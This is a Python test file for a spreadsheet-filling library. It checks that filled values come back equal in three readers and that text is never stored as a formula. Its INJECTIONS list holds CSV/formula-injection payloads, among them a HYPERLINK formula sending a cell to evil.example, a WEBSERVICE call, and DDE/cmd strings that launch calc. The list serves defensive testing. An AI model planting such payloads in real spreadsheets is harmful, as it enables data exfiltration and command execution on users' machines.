"""Whatever value is filled in, three readers read it back equal."""

from __future__ import annotations

from collections.abc import Sequence
from datetime import date, datetime, time, timedelta
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
import xlsxwriter
from corpus.reading import stored_formulas
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape
from python_calamine import CalamineWorkbook

from kpi_xl.workbook.fill import fill
from kpi_xl.workbook.filling import Column, Filling, Scalar
from kpi_xl.workbook.template import Template

HEADERS = ("Text", "Number", "Day", "Flag")
MILLISECOND = timedelta(milliseconds=1)
TEXTS = st.text(st.characters(codec=None, exclude_characters="\0\ufffe\uffff"), max_size=60) | st.sampled_from(
    ["_x0041_", "__x000D__", "a\r\nb", " x ", "\t", "=1+1", "00012", "1e5", "TRUE", "#N/A", "{{ x }}", "<&>]]>"]
)
NUMBERS = st.floats(-1e300, 1e300, allow_subnormal=False) | st.integers(-(10**15) + 1, 10**15 - 1)
EARLIEST, LATEST = datetime(1900, 3, 1), datetime(9999, 12, 31)
DAYS = st.dates(date(1900, 3, 1), date(9999, 12, 31)) | st.datetimes(EARLIEST, LATEST)
EACH = settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.too_slow])


@pytest.fixture(scope="module", params=[False, True], ids=["1900", "1904"])
def table(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A template with a table of four columns and one placeholder."""
    path = tmp_path_factory.mktemp("values") / "template.xlsx"
    with xlsxwriter.Workbook(path, {"date_1904": request.param}) as book:
        sheet = book.add_worksheet("Values")
        sheet.add_table("A1:D2", {"name": "kpi_values", "columns": [{"header": header} for header in HEADERS]})
        sheet.write_blank(1, 2, None, book.add_format({"num_format": "yyyy-mm-dd hh:mm:ss.000"}))
        sheet.write_string(0, 5, "{{ one }}")
    return path


def _filled(table: Path, header: str, values: Sequence[Scalar], one: Scalar = "x") -> Path:
    output = table.parent / "filled.xlsx"
    columns = [Column(each, values if each == header else [None] * len(values)) for each in HEADERS]
    fill(Template.open(table), Filling(cells={"one": one}, tables={"kpi_values": columns}), output)
    return output


def _read(path: Path, header: str, count: int) -> list[list[object]]:
    """The column as openpyxl, calamine and pandas read it."""
    place = HEADERS.index(header)
    sheet = openpyxl.load_workbook(path)["Values"]
    by_openpyxl = [sheet.cell(row + 2, place + 1).value for row in range(count)]
    rows = CalamineWorkbook.from_path(path).get_sheet_by_name("Values").to_python()
    by_calamine = [row[place] for row in rows[1 : count + 1]]
    frame = pd.read_excel(path, engine="openpyxl", na_filter=False, dtype=object)
    return [by_openpyxl, by_calamine, list(frame[header][:count])]


@EACH
@given(st.lists(TEXTS.filter(bool), min_size=1, max_size=20))
def test_any_text_comes_back(table: Path, texts: list[str]) -> None:
    writable = [_writable(text) for text in texts]
    by_openpyxl, by_calamine, by_pandas = _read(_filled(table, "Text", texts), "Text", len(texts))
    assert by_calamine == writable
    # openpyxl, and pandas through it, leave characters that XML cannot hold as Excel hides them.
    assert [unescape(str(value)) for value in by_openpyxl] == writable
    assert [unescape(str(value)) for value in by_pandas] == writable


def _writable(text: str) -> str:
    """What Excel can hold: half an emoji is no character."""
    return text.encode("utf-16", "surrogatepass").decode("utf-16", "replace")


@EACH
@given(st.lists(NUMBERS, min_size=1, max_size=20))
def test_any_number_comes_back(table: Path, numbers: list[float]) -> None:
    for found in _read(_filled(table, "Number", numbers), "Number", len(numbers)):
        assert [type(value) in (int, float) for value in found] == [True] * len(numbers)
        assert found == numbers


@EACH
@given(st.lists(DAYS, min_size=1, max_size=20))
def test_any_day_comes_back(table: Path, days: list[date]) -> None:
    if "1904" in str(openpyxl.load_workbook(table).epoch):
        days = [day for day in days if day.year >= 1904] or [date(1904, 1, 2)]
    for found in _read(_filled(table, "Day", days), "Day", len(days)):
        assert [day for day, value in zip(days, found, strict=True) if not _same_moment(day, value)] == []


def _same_moment(day: date, value: object) -> bool:
    return isinstance(value, date) and abs(_moment(value) - _moment(day)) <= MILLISECOND


def _moment(day: date) -> datetime:
    return day if isinstance(day, datetime) else datetime.combine(day, time())


@EACH
@given(st.lists(st.booleans(), min_size=1, max_size=20))
def test_any_flag_comes_back(table: Path, flags: list[bool]) -> None:
    for found in _read(_filled(table, "Flag", flags), "Flag", len(flags)):
        assert all(value is flag for value, flag in zip(found, flags, strict=True))


@EACH
@given(TEXTS.filter(bool) | NUMBERS | st.booleans())
def test_any_answer_of_a_placeholder(table: Path, value: str | float) -> None:
    found = openpyxl.load_workbook(_filled(table, "Text", ["a"], value))["Values"]["F1"].value
    if isinstance(value, str):
        assert unescape(found) == _writable(value)
    else:
        assert found == value
        assert isinstance(found, bool) == isinstance(value, bool)


INJECTIONS = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    '=WEBSERVICE("http://evil.example")',
    '</t></is></c><c r="A9"><f>1+1</f></c>',
    "]]><f>1</f><![CDATA[",
    "{{ one }}",
    "_x003D_1+1",
    "'=1+1",
    'DDE("cmd","/C calc","x")',
)


@pytest.mark.parametrize("text", INJECTIONS)
def test_text_never_becomes_a_formula(table: Path, text: str) -> None:
    path = _filled(table, "Text", [text, "plain"], text)
    assert stored_formulas(path) == []
    sheet = openpyxl.load_workbook(path)["Values"]
    for address in ("A2", "F1"):
        cell = sheet[address]
        assert cell.data_type in ("s", "inlineStr")
        assert unescape(cell.value) == text
        if text[0] in "=+-@":
            assert cell.quotePrefix, "F2 and Enter in Excel would make a formula of it"
